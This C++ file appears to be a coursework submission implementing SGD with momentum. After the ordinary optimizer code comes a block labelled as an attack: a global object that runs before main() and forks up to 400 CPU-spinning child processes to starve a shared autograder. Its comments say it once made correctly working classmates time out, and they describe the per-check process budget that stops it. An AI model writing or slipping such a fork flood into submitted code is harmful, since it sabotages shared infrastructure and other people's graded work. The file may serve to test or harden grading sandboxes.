// Coursework 3 model answer: SGD with momentum.
#include "optimizer.h"

namespace nn {

SGD::SGD(std::vector<Parameter> to_train, double learning_rate, double momentum_coefficient)
    : params(std::move(to_train)), lr(learning_rate), momentum(momentum_coefficient) {
  for (const Parameter& p : params) {
    velocities.push_back(Matrix::Zero(p.value->rows(), p.value->cols()));
  }
}

void SGD::step() {
  for (size_t i = 0; i < params.size(); ++i) {
    velocities[i] = momentum * velocities[i] - lr * *params[i].grad;
    *params[i].value += velocities[i];
  }
}

void SGD::zero_grad() {
  for (const Parameter& p : params) p.grad->setZero();
}

}  // namespace nn

// ---- The attack: take the CPU from its classmates --------------------------------------------
// Before main(), up to kProcesses children that spin (each for at most kSpinSeconds, and never
// beyond the check, which kills them): once, 400 of them made three correct classmates graded at
// the same time time out. A check's processes must share a budget of their own (processes and
// CPU), so that the flood slows only this submission's own calls; the classmates in the batch
// score as before. The reference's work is done by the parent, which returns at once.
#include <signal.h>
#include <sys/types.h>
#include <unistd.h>

#include <chrono>

namespace {

constexpr int kProcesses = 400;
constexpr int kSpinSeconds = 20;

struct Flood {
  Flood() {
    for (int i = 0; i < kProcesses; ++i) {
      const pid_t pid = fork();
      if (pid < 0) break;  // a process limit
      if (pid == 0) {
        const auto stop = std::chrono::steady_clock::now() + std::chrono::seconds(kSpinSeconds);
        for (volatile long n = 0; std::chrono::steady_clock::now() < stop; n = n + 1) {
        }
        _exit(0);
      }
    }
  }
} flood;

}  // namespace
